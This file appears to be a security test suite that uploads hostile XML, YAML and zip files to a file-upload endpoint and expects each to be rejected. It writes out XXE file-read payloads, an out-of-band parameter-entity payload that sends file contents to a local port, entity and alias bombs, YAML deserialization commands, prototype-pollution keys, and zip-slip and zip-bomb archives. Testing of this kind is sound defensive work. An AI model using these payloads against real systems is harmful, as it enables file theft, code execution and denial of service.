import { type Inputs, type Line, sendInputs } from '../hostile.ts'
import { type Entry, zip } from '../zip.ts'

/** Empty or unreadable: in both cases the reply says that the format is deprecated. */
const OUT_OF_DATE = /^410 .*deprecated/s
const BUSY = /^503 .*temporarily not available/s
/** Too large to read: stopped by the deadline, by memory, or by a limit of the parser. */
const ENDED = /^(410 .*deprecated|503 .*temporarily not available)/s

function xxe(address: string): string {
  return `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "${address}">]><d>&x;</d>`
}

function reference(address: string): Line<string> {
  const aim = /^(https?|ftp|gopher|jar|data)/.test(address) ? 'network' : 'files'
  return [aim, xxe(address), OUT_OF_DATE, address]
}

const xml = ({ file, link, port }: Parameters<Inputs>[0]): Line<string>[] => [
  ['files', xxe('file:///etc/passwd'), /^410 .*root:x:0:0/s, 'file:///etc/passwd'],
  ['files', xxe('file:///c:/windows/system.ini'), /^410 .*drivers/s, 'file:///c:/windows/system.ini'],
  ...[
    `file://${file}`,
    `file://localhost${file}`,
    file,
    `../../../../../../../..${file}`,
    `file:///..%2f..%2f..${encodeURIComponent(file)}`,
    file.replaceAll('/', '%2f'),
    link,
    `C:${file}`,
    `\\\\127.0.0.1\\share${file}`,
    '/proc/self/environ',
    'file:///proc/self/cwd/package.json',
    'package.json',
    `php://filter/convert.base64-encode/resource=${file}`,
    'expect://id',
    `http://127.0.0.1:${port}/`,
    `https://127.0.0.1:${port}/`,
    `ftp://127.0.0.1:${port}/x`,
    `gopher://127.0.0.1:${port}/_x`,
    `jar:http://127.0.0.1:${port}/x!/y`,
    'data:text/plain,hello',
  ].map(reference),
  ['network', `<!DOCTYPE d SYSTEM "http://127.0.0.1:${port}/x.dtd"><d/>`, OUT_OF_DATE],
  [
    'network',
    `<!DOCTYPE d [<!ENTITY % f SYSTEM "file://${file}"><!ENTITY % x "<!ENTITY &#37; y SYSTEM 'http://127.0.0.1:${port}/?%f;'>">%x;%y;]><d/>`,
    OUT_OF_DATE,
    'a parameter entity that carries a file away',
  ],
  [
    'files',
    `<d xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file://${file}"/></d>`,
    OUT_OF_DATE,
  ],
  ['network', `<?xml-stylesheet href="http://127.0.0.1:${port}/x.xsl"?><d/>`, OUT_OF_DATE],
  ['time', xxe('file:///dev/random'), BUSY, 'file:///dev/random'],
  ['time', xxe('file:///dev/zero'), BUSY, 'file:///dev/zero'],
  ['memory', laughs(10), ENDED, 'a billion laughs'],
  [
    'memory',
    `<!DOCTYPE d [<!ENTITY a "${'a'.repeat(20_000)}">]><d>${'&a;'.repeat(9_000)}</d>`,
    ENDED,
    'a long entity, used 9,000 times',
  ],
  ['memory', `<!DOCTYPE d [<!ENTITY a "&b;"><!ENTITY b "&a;">]><d>&a;</d>`, OUT_OF_DATE],
  ['memory', `${'<a>'.repeat(20_000)}${'</a>'.repeat(20_000)}`, ENDED, '20,000 elements deep'],
  [
    'memory',
    `<a ${Array.from({ length: 8_000 }, (_, i) => `a${i}=""`).join(' ')}/>`,
    ENDED,
    '8,000 attributes',
  ],
]

function laughs(depth: number): string {
  const entities = Array.from({ length: depth }, (_, level) => {
    const value = level === 0 ? 'lol' : `&l${level - 1};`.repeat(10)
    return `<!ENTITY l${level} "${value}">`
  })
  return `<!DOCTYPE d [${entities.join('')}]><d>&l${depth - 1};</d>`
}

const yaml = ({ file, folder }: Parameters<Inputs>[0]): Line<string>[] => [
  ['files', `a: !include ${file}`, OUT_OF_DATE],
  ['processes', `a: !!js/function 'function () { process.exit() }'`, OUT_OF_DATE],
  ['processes', `a: !!python/object/apply:os.system ["touch ${folder}/pwned"]`, OUT_OF_DATE],
  ['processes', `--- !ruby/object:Gem::Installer\ni: x`, OUT_OF_DATE],
  ['realm', `__proto__: {polluted: true}\nconstructor: {prototype: {polluted: true}}`, OUT_OF_DATE],
  ['realm', `a: &a {__proto__: {polluted: true}}\nb: {<<: *a}`, OUT_OF_DATE],
  ['realm', `{toString: 1, valueOf: 2, hasOwnProperty: 3, toJSON: 4}`, OUT_OF_DATE],
  ['memory', bomb(9), ENDED, 'nine lists of nine lists'],
  ['memory', bomb(30), ENDED, 'thirty lists of nine lists'],
  ['memory', `a: &a [*a, *a]`, ENDED],
  ['memory', '['.repeat(50_000), ENDED, '50,000 brackets'],
  ['memory', `a: ${'{a: '.repeat(5_000)}${'}'.repeat(5_000)}`, ENDED, '5,000 maps deep'],
  ['time', `? ${'[a, '.repeat(3_000)}${']'.repeat(3_000)}\n: b`, ENDED, 'a key of 3,000 lists'],
  ['time', `a: "${'\\x41'.repeat(20_000)}`, ENDED, 'a text without an end'],
]

function bomb(levels: number): string {
  const lines = Array.from({ length: levels }, (_, level) => {
    const item = level === 0 ? 'lol' : `*l${level - 1}`
    return `l${level}: &l${level} [${Array(9).fill(item).join(',')}]`
  })
  return lines.join('\n')
}

const archives = ({ file, folder, link }: Parameters<Inputs>[0]): Line<Uint8Array>[] => {
  const named = (name: string): Line<Uint8Array> => ['files', zip([{ name, text: 'pwned' }]), /^204 /s, name]
  const odd = (
    aim: 'realm' | 'memory' | 'files',
    name: string,
    entries: Entry[],
    answer: RegExp,
  ): Line<Uint8Array> => [aim, zip(entries), answer, name]
  return [
    named(file),
    named(`${folder}/pwned`),
    named(`../../../../../..${folder}/pwned`),
    named(`../../../../../../../../../..${file}`),
    named(`..\\..\\..\\..\\..\\..${file.replaceAll('/', '\\')}`),
    named(`C:\\pwned`),
    named(`\\\\server\\share\\pwned`),
    named(`..%2f..%2f..%2f..%2f..%2fpwned`),
    named(`....//....//....//pwned`),
    named('../../server/main.ts'),
    named('../../content/disk/ftp/legal.md'),
    named('../../../../../../pwned'),
    named(`~/pwned`),
    named('/proc/self/mem'),
    named(`a\0b`),
    named('x'.repeat(4_000)),
    odd(
      'realm',
      'entries called __proto__',
      [
        { name: '__proto__', text: 'x' },
        { name: '__proto__/polluted', text: 'x' },
        { name: 'constructor', text: 'x' },
      ],
      /^204 /s,
    ),
    odd(
      'files',
      'a symbolic link to a file',
      [
        { name: 'link.txt', text: file, symlink: true },
        { name: 'link.txt', text: 'pwned' },
      ],
      /^204 /s,
    ),
    odd('files', 'a link that lies in the shops’ folder', [{ name: link, text: 'pwned' }], /^204 /s),
    odd('memory', 'a bomb of 90 MB', [{ name: 'a', text: '', zeros: 90_000_000 }], /^500 .*too large/s),
    odd(
      'memory',
      'a bomb that says it is small',
      [{ name: 'a', text: '', zeros: 90_000_000, claims: 10 }],
      /^(204|500) /s,
    ),
    odd(
      'memory',
      'one that says it is larger than all memory',
      [{ name: 'a', text: 'x', claims: 0xfffffff0 }],
      /^500 .*too large/s,
    ),
    odd(
      'memory',
      '900 files',
      Array.from({ length: 900 }, (_, i) => ({ name: `${i}`, text: '' })),
      /^500 .*too large/s,
    ),
    ['memory', new TextEncoder().encode('PK\u0003\u0004 and no more'), /^500 /s, 'half an archive'],
  ]
}

export const documentInputs: Inputs = (canaries) => [
  ...sendInputs(
    'XML',
    (learner, text) => learner.upload('/file-upload', 'file', 'a.xml', text),
    xml(canaries),
  ),
  ...sendInputs(
    'YAML',
    (learner, text) => learner.upload('/file-upload', 'file', 'a.yml', text),
    yaml(canaries),
  ),
  ...sendInputs(
    'Archives',
    (learner, bytes) => learner.upload('/file-upload', 'file', 'a.zip', bytes),
    archives(canaries),
  ),
]
